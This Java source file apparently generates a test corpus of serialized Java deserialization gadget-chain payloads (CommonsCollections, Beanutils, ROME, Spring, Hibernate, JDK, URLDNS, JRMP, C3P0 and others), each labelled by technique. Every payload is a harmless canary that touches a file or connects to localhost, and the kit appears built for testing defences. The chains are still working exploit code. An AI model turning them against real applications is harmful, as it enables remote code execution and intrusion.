import java.io.*;
import java.lang.annotation.Target;
import java.net.URL;
import java.nio.file.Path;
import java.util.*;
import javax.xml.transform.Templates;

/** Writes one file for each way in which reading an object stream acts. Payloads make the file weir-canary in the current folder, or connect to port 9. */
public final class Hostile extends Kit {
    static final String TOUCH = "touch weir-canary";
    static final String CC3 = "org.apache.commons.collections.", CC4 = "org.apache.commons.collections4.";

    interface Maker { Object make() throws Exception; }

    static void add(String name, String gives, String canary, String technique, Maker m) throws Exception {
        try {
            save("java/" + name + ".ser", OldException.renamed(bytes(m.make())), "technique", technique, "gives", gives, "canary", canary);
        } catch (Throwable e) {
            System.err.println("NOT MADE " + name + ": " + e);
            if (System.getenv("TRACE") != null) e.printStackTrace();
        }
    }

    // The parts.

    static Object constant(String cc, Object v) throws Exception {
        return make(cc + "functors.ConstantTransformer", "iConstant", v);
    }

    static Object invoker(String cc, String method, Class<?>[] types, Object... args) throws Exception {
        return make(cc + "functors.InvokerTransformer", "iMethodName", method, "iParamTypes", types, "iArgs", args);
    }

    static Object[] transformers(String cc, Object... t) throws Exception {
        return Arrays.copyOf(t, t.length, (Class<? extends Object[]>) Class.forName("[L" + cc + "Transformer;"));
    }

    static Object chain(String cc, Object... t) throws Exception {
        return make(cc + "functors.ChainedTransformer", "iTransformers", transformers(cc, t));
    }

    /** Runtime.getRuntime().exec, by reflection from a constant. */
    static Object exec(String cc) throws Exception {
        return chain(cc, constant(cc, Runtime.class),
            invoker(cc, "getMethod", new Class<?>[] {String.class, Class[].class}, "getRuntime", new Class<?>[0]),
            invoker(cc, "invoke", new Class<?>[] {Object.class, Object[].class}, null, new Object[0]),
            invoker(cc, "exec", new Class<?>[] {String.class}, TOUCH), constant(cc, 1));
    }

    static Object lazy(String cc, Object transformer) throws Exception {
        return lazy(cc, transformer, new HashMap<>());
    }

    static Object lazy(String cc, Object transformer, Map<?, ?> inner) throws Exception {
        Object m = make(cc + "map.LazyMap", "factory", transformer);
        return set(m, "map", inner);
    }

    static Object tied(String cc, Object map, Object key) throws Exception {
        return make(cc + "keyvalue.TiedMapEntry", "map", map, "key", key);
    }

    static Object annotation(Class<?> type, Map<?, ?> values) throws Exception {
        return make("sun.reflect.annotation.AnnotationInvocationHandler", "type", type, "memberValues", values);
    }

    /** Compiled templates with a class whose constructor acts; javassist writes the class. */
    static Object templates(String impl) throws Exception {
        String pkg = impl.substring(0, impl.indexOf(".trax"));
        javassist.ClassPool pool = new javassist.ClassPool(true);
        javassist.CtClass up = pool.makeClass(pkg + ".runtime.AbstractTranslet");
        up.addConstructor(javassist.CtNewConstructor.make("public AbstractTranslet() {}", up));
        javassist.CtClass c = pool.makeClass("die.verwandlung.Canary", up);
        c.addConstructor(javassist.CtNewConstructor.make("public Canary() { Runtime.getRuntime().exec(\"" + TOUCH + "\"); }", c));
        byte[] code = c.toBytecode();
        return make(impl, "_name", "Canary", "_bytecodes", new byte[][] {code}, "_transletIndex", -1, "_indentNumber", 0);
    }

    static final String JDK = "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", XALAN = "org.apache.xalan.xsltc.trax.TemplatesImpl";

    static Object bean(String cc, String property, Object comparator) throws Exception {
        return make("org.apache.commons.beanutils.BeanComparator", "property", property, "comparator", comparator);
    }

    static Object rowSet(String url) throws Exception {
        Object r = make("com.sun.rowset.JdbcRowSetImpl", "iMatchColumns", new Vector<>(), "strMatchColumns", new Vector<>());
        fill(r, "dataSource", url, "listeners", new Vector<>(), "rowSetType", 1004, "concurrency", 1008);
        return r;
    }

    /** A map in which two equal hashes make XString.equals ask the other value for its text. */
    static Object text(Object asked) throws Exception {
        Object x = make("com.sun.org.apache.xpath.internal.objects.XString", "m_obj", "x");
        return map(map("yy", asked, "zZ", x), 1, map("yy", x, "zZ", asked), 2);
    }

    static void commonsCollections() throws Exception {
        add("collections3-annotation-handler", "execute", "file", "CommonsCollections1: LazyMap behind a proxy that AnnotationInvocationHandler.readObject walks (until 8u71)",
            () -> annotation(Override.class, (Map<?, ?>) proxy(annotation(Override.class, (Map<?, ?>) lazy(CC3, exec(CC3))), Map.class)));
        add("collections3-transformed-map", "execute", "file", "TransformedMap whose entries AnnotationInvocationHandler.readObject sets (until 8u71)", () -> {
            Object t = make(CC3 + "map.TransformedMap", "valueTransformer", exec(CC3));
            return annotation(Target.class, (Map<?, ?>) set(t, "map", new HashMap<>(Map.of("value", "v"))));
        });
        add("collections4-queue-templates", "execute", "file", "CommonsCollections2: PriorityQueue compares through InvokerTransformer.newTransformer on TemplatesImpl", () ->
            queue(make(CC4 + "comparators.TransformingComparator", "decorated", null, "transformer", invoker(CC4, "newTransformer", new Class<?>[0])), templates(JDK), templates(JDK)));
        add("collections4-queue-exec", "execute", "file", "PriorityQueue compares through TransformingComparator and a chain to Runtime.exec", () ->
            queue(make(CC4 + "comparators.TransformingComparator", "decorated", make(CC4 + "comparators.ComparableComparator"), "transformer", exec(CC4)), 1, 2));
        add("collections3-trax-filter", "execute", "file", "CommonsCollections3: InstantiateTransformer makes a TrAXFilter, whose constructor opens TemplatesImpl", () ->
            map(tied(CC3, lazy(CC3, chain(CC3, constant(CC3, type("com.sun.org.apache.xalan.internal.xsltc.trax.TrAXFilter")),
                make(CC3 + "functors.InstantiateTransformer", "iParamTypes", new Class<?>[] {Templates.class}, "iArgs", new Object[] {templates(JDK)}))), "k"), 1));
        add("collections4-trax-filter", "execute", "file", "CommonsCollections4: the same behind PriorityQueue", () ->
            queue(make(CC4 + "comparators.TransformingComparator", "decorated", make(CC4 + "comparators.ComparableComparator"), "transformer",
                chain(CC4, constant(CC4, type("com.sun.org.apache.xalan.internal.xsltc.trax.TrAXFilter")),
                make(CC4 + "functors.InstantiateTransformer", "iParamTypes", new Class<?>[] {Templates.class}, "iArgs", new Object[] {templates(JDK)}))), 1, 2));
        add("collections3-bad-attribute", "execute", "file", "CommonsCollections5: BadAttributeValueExpException.readObject asks TiedMapEntry for its text (until JDK 14)", () ->
            new OldException(tied(CC3, lazy(CC3, exec(CC3)), "k")));
        add("collections3-hash-set", "execute", "file", "CommonsCollections6: HashSet asks TiedMapEntry for its hash", () -> hashSet(new HashSet<>(), tied(CC3, lazy(CC3, exec(CC3)), "k")));
        add("collections3-hash-map", "execute", "file", "HashMap asks TiedMapEntry for its hash", () -> map(tied(CC3, lazy(CC3, exec(CC3)), "k"), 1));
        add("collections4-hash-map", "execute", "file", "the same with commons-collections4 4.0", () -> map(tied(CC4, lazy(CC4, exec(CC4)), "k"), 1));
        add("collections3-hashtable", "execute", "file", "CommonsCollections7: two LazyMaps of one hash that Hashtable compares", () -> {
            Hashtable<Object, Object> h = new Hashtable<>();
            h.put(1001, 1);
            h.put(1002, 2);
            Object a = lazy(CC3, exec(CC3), new HashMap<>(Map.of("yy", 1))), b = lazy(CC3, exec(CC3), new HashMap<>(Map.of("zZ", 1)));
            for (Object e : (Object[]) get(h, "table")) {
                for (; e != null; e = get(e, "next")) set(e, "key", get(e, "key").equals(1001) ? a : b);
            }
            return h;
        });
        add("collections3-defaulted-map", "execute", "file", "DefaultedMap in the place of LazyMap", () -> {
            Object d = make(CC3 + "map.DefaultedMap", "value", exec(CC3));
            return map(tied(CC3, set(d, "map", new HashMap<>()), "k"), 1);
        });
        add("collections4-tree-bag", "execute", "file", "TreeBag.readObject puts its elements through a TransformingComparator", () -> {
            Object c = make(CC4 + "comparators.TransformingComparator", "decorated", make(CC4 + "comparators.ComparableComparator"), "transformer", constant(CC4, 1));
            Object bag = Class.forName(CC4 + "bag.TreeBag").getConstructor(Comparator.class).newInstance(c);
            ((Collection<Object>) bag).add("x");
            set(c, "transformer", exec(CC4));
            return bag;
        });
        add("collections3-factory", "execute", "file", "FactoryTransformer and InstantiateFactory make a TrAXFilter", () -> {
            Object f = make(CC3 + "functors.InstantiateFactory", "iClassToInstantiate", type("com.sun.org.apache.xalan.internal.xsltc.trax.TrAXFilter"),
                "iParamTypes", new Class<?>[] {Templates.class}, "iArgs", new Object[] {templates(JDK)});
            return map(tied(CC3, lazy(CC3, make(CC3 + "functors.FactoryTransformer", "iFactory", f)), "k"), 1);
        });
        add("collections3-closures", "execute", "file", "ClosureTransformer, ForClosure and TransformerClosure around the chain", () -> {
            Object c = make(CC3 + "functors.ForClosure", "iCount", 1, "iClosure", make(CC3 + "functors.TransformerClosure", "iTransformer", exec(CC3)));
            return map(tied(CC3, lazy(CC3, make(CC3 + "functors.ClosureTransformer", "iClosure", c)), "k"), 1);
        });
        add("collections3-switch", "execute", "file", "SwitchTransformer without predicates: its default acts", () -> {
            Object[] none = (Object[]) java.lang.reflect.Array.newInstance(type(CC3 + "Predicate"), 0);
            return map(tied(CC3, lazy(CC3, make(CC3 + "functors.SwitchTransformer", "iPredicates", none, "iTransformers", transformers(CC3), "iDefault", exec(CC3))), "k"), 1);
        });
        add("collections3-xalan", "execute", "file", "TemplatesImpl of the library xalan instead of the JDK's", () ->
            map(tied(CC3, lazy(CC3, chain(CC3, constant(CC3, templates(XALAN)), invoker(CC3, "newTransformer", new Class<?>[0]))), "k"), 1));
        add("collections3-script", "execute", "file", "the chain ends in a constructor of its own: InstantiateTransformer and FileOutputStream", () ->
            map(tied(CC3, lazy(CC3, chain(CC3, constant(CC3, FileOutputStream.class),
                make(CC3 + "functors.InstantiateTransformer", "iParamTypes", new Class<?>[] {String.class}, "iArgs", new Object[] {"weir-canary"}), constant(CC3, 1))), "k"), 1));
    }

    static void beans() throws Exception {
        add("beanutils-templates", "execute", "file", "CommonsBeanutils1: BeanComparator reads outputProperties of TemplatesImpl", () ->
            queue(bean(CC3, "outputProperties", make(CC3 + "comparators.ComparableComparator")), templates(JDK), templates(JDK)));
        add("beanutils-no-collections", "execute", "file", "the same without commons-collections", () -> queue(bean(null, "outputProperties", String.CASE_INSENSITIVE_ORDER), templates(JDK), templates(JDK)));
        add("beanutils-jndi", "network", "connect", "BeanComparator reads databaseMetaData of JdbcRowSetImpl, which looks up a name in a directory of the attacker's", () ->
            queue(bean(null, "databaseMetaData", Collections.reverseOrder()), rowSet("rmi://127.0.0.1:9/weir"), rowSet("rmi://127.0.0.1:9/weir")));
        add("rome-templates", "execute", "file", "ROME: the hash of ObjectBean is the text of a bean, made by calling all its getters", () -> {
            Object t = make("com.sun.syndication.feed.impl.ToStringBean", "_beanClass", Templates.class, "_obj", templates(JDK));
            Object e = make("com.sun.syndication.feed.impl.EqualsBean", "_beanClass", type("com.sun.syndication.feed.impl.ToStringBean"), "_obj", t);
            return map(make("com.sun.syndication.feed.impl.ObjectBean", "_equalsBean", e), 1);
        });
        add("rome-signed-object", "deserialize", "file", "ROME calls SignedObject.getObject, which reads a second stream", () -> {
            Object inner = make("java.security.SignedObject", "content", bytes(map(tied(CC3, lazy(CC3, exec(CC3)), "k"), 1)), "signature", new byte[1], "thealgorithm", "x");
            Object t = make("com.sun.syndication.feed.impl.ToStringBean", "_beanClass", type("java.security.SignedObject"), "_obj", inner);
            return map(make("com.sun.syndication.feed.impl.EqualsBean", "_beanClass", type("com.sun.syndication.feed.impl.ToStringBean"), "_obj", t), 1);
        });
        add("click-column", "execute", "file", "Click1: ColumnComparator reads a property of TemplatesImpl", () -> {
            Object column = make("org.apache.click.control.Column", "name", "outputProperties");
            Object table = make("org.apache.click.control.Table");
            set(column, "table", table);
            return queue(make("org.apache.click.control.Column$ColumnComparator", "ascendingSort", 1, "column", column), templates(JDK), templates(JDK));
        });
        add("vaadin-property", "execute", "file", "Vaadin1: the text of PropertysetItem reads NestedMethodProperty of TemplatesImpl", () -> {
            Object p = make("com.vaadin.data.util.NestedMethodProperty", "instance", templates(JDK), "propertyName", "outputProperties");
            Object item = make("com.vaadin.data.util.PropertysetItem", "map", new HashMap<>(Map.of("outputProperties", p)), "list", new LinkedList<>(List.of("outputProperties")));
            return text(item);
        });
        add("hibernate-getter", "execute", "file", "Hibernate1: TypedValue's hash reads a property of TemplatesImpl through BasicGetter", () -> map(hibernate(templates(JDK), "outputProperties"), 1));
        add("hibernate-jndi", "network", "connect", "Hibernate2: the same with JdbcRowSetImpl", () -> map(hibernate(rowSet("rmi://127.0.0.1:9/weir"), "databaseMetaData"), 1));
        add("json-object", "execute", "file", "JSON1: JSONObject compared to a map reads the properties of a bean behind a Spring proxy", () -> {
            Object advised = make("org.springframework.aop.framework.AdvisedSupport", "targetSource", make("org.springframework.aop.target.SingletonTargetSource", "target", templates(JDK)));
            Object p = proxy(make("org.springframework.aop.framework.JdkDynamicAopProxy", "advised", advised), Templates.class);
            return map(make("net.sf.json.JSONObject", "properties", new HashMap<>(Map.of("a", p))), 1);
        });
    }

    static Object hibernate(Object target, String property) throws Exception {
        Object getter = make("org.hibernate.property.BasicPropertyAccessor$BasicGetter", "clazz", target.getClass(), "propertyName", property);
        Object getters = java.lang.reflect.Array.newInstance(type("org.hibernate.property.Getter"), 1);
        java.lang.reflect.Array.set(getters, 0, getter);
        Object tuplizer = make("org.hibernate.tuple.component.PojoComponentTuplizer", "getters", getters);
        Object types = java.lang.reflect.Array.newInstance(type("org.hibernate.type.Type"), 1);
        Object component = make("org.hibernate.type.ComponentType", "componentTuplizer", tuplizer, "propertySpan", 1, "propertyTypes", types);
        java.lang.reflect.Array.set(types, 0, component);
        return make("org.hibernate.engine.spi.TypedValue", "type", component, "value", target);
    }

    static void languages() throws Exception {
        add("beanshell-comparator", "execute", "file", "BeanShell1: a comparator that is a script", () -> {
            bsh.Interpreter i = new bsh.Interpreter();
            i.eval("compare(Object a, Object b) { new java.lang.ProcessBuilder(new String[] {\"touch\", \"weir-canary\"}).start(); return new Integer(1); }");
            Object x = Class.forName("bsh.XThis").getConstructor(bsh.NameSpace.class, bsh.Interpreter.class).newInstance(i.getNameSpace(), i);
            return queue(proxy(get(x, "invocationHandler"), Comparator.class), 1, 2);
        });
        add("clojure-table-model", "execute", "file", "Clojure: AbstractTableModel whose hashCode is a function that evaluates text", () -> {
            Object eval = Class.forName("clojure.main$eval_opt").getConstructor().newInstance();
            clojure.lang.IFn constantly = (clojure.lang.IFn) Class.forName("clojure.core$constantly").getConstructor().newInstance();
            clojure.lang.IFn comp = (clojure.lang.IFn) Class.forName("clojure.core$comp").getConstructor().newInstance();
            Object f = comp.invoke(eval, constantly.invoke("(clojure.java.io/make-output-stream \"weir-canary\" {})"));
            f = comp.invoke(eval, constantly.invoke("(do (.exec (Runtime/getRuntime) \"" + TOUCH + "\") 1)"));
            Object model = Class.forName("clojure.inspector.proxy$javax.swing.table.AbstractTableModel$ff19274a").getConstructor().newInstance();
            model.getClass().getMethod("__initClojureFnMappings", clojure.lang.IPersistentMap.class).invoke(model,
                clojure.lang.PersistentHashMap.create(Map.of("hashCode", f)));
            return map(model, 1);
        });
        add("jython-function", "execute", "file", "Jython1: a comparator that is a Python function", () -> {
            Object code = make("org.python.core.PyBytecode", "co_code", new byte[] {100, 0, 0, 83}, "co_name", "f");
            return queue(proxy(make("org.python.core.PyFunction", "__name__", "f", "func_code", code), Comparator.class), 1, 2);
        });
        add("rhino-error", "execute", "file", "MozillaRhino1: the text of NativeError runs a script's getter", () -> text(make("org.mozilla.javascript.NativeError")));
        add("scala-file", "file-write", "none", "Scala: a function that opens a file for writing, as LazyList of 2.13 calls it when it is read (CVE-2022-36944)", () ->
            new java.lang.invoke.SerializedLambda(Class.forName("scala.sys.process.ProcessBuilderImpl$FileOutput"), "scala/Function0", "apply", "()Ljava/lang/Object;", 6,
                "scala/sys/process/ProcessBuilderImpl$FileOutput", "$anonfun$$lessinit$greater$3", "(Ljava/io/File;Z)Ljava/io/FileOutputStream;", "()Ljava/io/FileOutputStream;",
                new Object[] {new File("weir-canary"), false}));
        add("myfaces-expression", "execute", "file", "MyFaces1: the hash of ValueExpressionMethodExpression evaluates an expression", () ->
            map(make("org.apache.myfaces.view.facelets.el.ValueExpressionMethodExpression", "valueExpression",
                make("org.apache.el.ValueExpressionImpl", "expr", "${weir.canary}", "expectedType", Object.class)), 1));
    }

    static void platform() throws Exception {
        add("jdk-7u21", "execute", "file", "Jdk7u21: LinkedHashSet compares TemplatesImpl with a proxy whose handler calls all its methods", () -> {
            Object t = templates(JDK);
            Object h = annotation(Templates.class, new HashMap<>(Map.of("f5a5a608", t)));
            return hashSet(new LinkedHashSet<>(), t, proxy(h, Templates.class));
        });
        add("jdk-8u20", "execute", "file", "Jre8u20: BeanContextSupport swallows the exception that should have stopped AnnotationInvocationHandler", () -> {
            Object t = templates(JDK);
            Object h = annotation(Templates.class, new HashMap<>(Map.of("f5a5a608", t)));
            java.beans.beancontext.BeanContextSupport b = new java.beans.beancontext.BeanContextSupport();
            b.add(h);
            return hashSet(new LinkedHashSet<>(), b, t, proxy(h, Templates.class));
        });
        add("url-dns", "network", "connect", "URLDNS: HashMap asks a URL for its hash, which resolves the host", () -> {
            URL u = new URL("http://weir-canary.invalid/");
            set(u, "hashCode", -1);
            return map(u, 1);
        });
        add("url-dns-set", "network", "connect", "the same in a HashSet, behind a safe first element", () -> {
            URL u = new URL("http://weir-canary.invalid/");
            set(u, "hashCode", -1);
            return new Object[] {"safe", 1, hashSet(new HashSet<>(), u)};
        });
        add("rmi-client", "network", "connect", "JRMPClient: a remote reference that registers itself with its server, whose answer is an object stream", () -> {
            Object r = java.rmi.registry.LocateRegistry.getRegistry("127.0.0.1", 9);
            return proxy(new java.rmi.server.RemoteObjectInvocationHandler(((java.rmi.server.RemoteObject) r).getRef()), java.rmi.registry.Registry.class);
        });
        add("rmi-stub", "network", "connect", "the same as a stub, without a proxy", () -> java.rmi.registry.LocateRegistry.getRegistry("127.0.0.1", 9));
        add("rmi-listener", "network", "connect", "JRMPListener: UnicastRemoteObject exports itself on a port", () -> {
            Object u = make("java.rmi.server.UnicastRemoteObject", "port", 0);
            return set(u, "ref", Class.forName("sun.rmi.server.UnicastServerRef").getConstructor(int.class).newInstance(0));
        });
        add("spring-jta", "network", "connect", "Spring's JtaTransactionManager looks up a name when it is read", () ->
            make("org.springframework.transaction.jta.JtaTransactionManager", "userTransactionName", "rmi://127.0.0.1:9/weir", "jndiTemplate", new org.springframework.jndi.JndiTemplate()));
        add("c3p0-reference", "execute", "connect", "C3P0: PoolBackedDataSource resolves a reference whose factory class is loaded from a URL", () -> {
            Object p = make("com.mchange.v2.c3p0.PoolBackedDataSource", "connectionPoolDataSource", new Referring());
            return fill(p, "dataSourceName", "x", "identityToken", "x", "factoryClassLocation", null, "extensions", new HashMap<>(), "numHelperThreads", 1);
        });
        add("spring-type-provider", "execute", "file", "Spring1: MethodInvokeTypeProvider.readObject calls a method by name", () -> {
            Object type = proxy(annotation(Override.class, new HashMap<>(Map.of("getType", String.class))), type("org.springframework.core.SerializableTypeWrapper$TypeProvider"));
            return make("org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider", "provider", type, "methodName", "newTransformer");
        });
        add("spring-aop", "execute", "file", "Spring2: the same behind JdkDynamicAopProxy and TemplatesImpl", () -> {
            Object advised = make("org.springframework.aop.framework.AdvisedSupport", "targetSource", make("org.springframework.aop.target.SingletonTargetSource", "target", templates(JDK)));
            Object aop = proxy(make("org.springframework.aop.framework.JdkDynamicAopProxy", "advised", advised), java.lang.reflect.Type.class, Templates.class);
            Object type = proxy(annotation(Override.class, new HashMap<>(Map.of("getType", aop))), type("org.springframework.core.SerializableTypeWrapper$TypeProvider"));
            return make("org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider", "provider", type, "methodName", "newTransformer");
        });
        add("fileupload-item", "file-write", "file", "FileUpload1: DiskFileItem.readObject writes its content into a folder of the attacker's choice", () -> {
            org.apache.commons.fileupload.disk.DiskFileItem d = new org.apache.commons.fileupload.disk.DiskFileItem("f", "text/plain", false, "n", 1 << 20, new File("."));
            d.getOutputStream().write("weir-canary".getBytes());
            return set(d, "sizeThreshold", 0);
        });
        add("wicket-item", "file-write", "file", "Wicket1: the same in Wicket", () -> {
            Object d = Class.forName("org.apache.wicket.util.upload.DiskFileItem").getConstructors()[0].newInstance("f", "text/plain", false, "n", 1 << 20, new File("."), null);
            ((OutputStream) d.getClass().getMethod("getOutputStream").invoke(d)).write("weir-canary".getBytes());
            return set(d, "sizeThreshold", 0);
        });
        add("aspectj-cache", "file-write", "file", "AspectJWeaver: SimpleCache's map writes what is put into it to a file named by the key", () -> {
            Object cache = fill(hold((HashMap<Object, Object>) storing()), "folder", ".", "lastStored", 0L);
            return map(tied(CC3, lazy(CC3, constant(CC3, "weir".getBytes()), (Map<?, ?>) cache), "weir-canary"), 1);
        });
    }

    static Object storing() throws Exception {
        java.lang.reflect.Constructor<?> c = type("org.aspectj.weaver.tools.cache.SimpleCache$StoreableCachingMap").getDeclaredConstructors()[0];
        for (java.lang.reflect.Constructor<?> k : type("org.aspectj.weaver.tools.cache.SimpleCache$StoreableCachingMap").getDeclaredConstructors()) {
            k.setAccessible(true);
            if (k.getParameterCount() == 2) return k.newInstance(".", 1000000);
            if (k.getParameterCount() == 1 && k.getParameterTypes()[0] == String.class) return k.newInstance(".");
        }
        c.setAccessible(true);
        return c.newInstance();
    }

    public static void main(String[] a) throws Exception {
        out = Path.of(a[0]);
        commonsCollections();
        beans();
        languages();
        platform();
        Places.main();
        finish();
    }
}

/** Gives c3p0's indirector a reference to write. */
final class Referring implements javax.sql.ConnectionPoolDataSource, javax.naming.Referenceable {
    public javax.naming.Reference getReference() { return new javax.naming.Reference("weir", "weir", "http://127.0.0.1:9/"); }
    public javax.sql.PooledConnection getPooledConnection() { return null; }
    public javax.sql.PooledConnection getPooledConnection(String u, String p) { return null; }
    public PrintWriter getLogWriter() { return null; }
    public void setLogWriter(PrintWriter w) { }
    public void setLoginTimeout(int s) { }
    public int getLoginTimeout() { return 0; }
    public java.util.logging.Logger getParentLogger() { return null; }
}
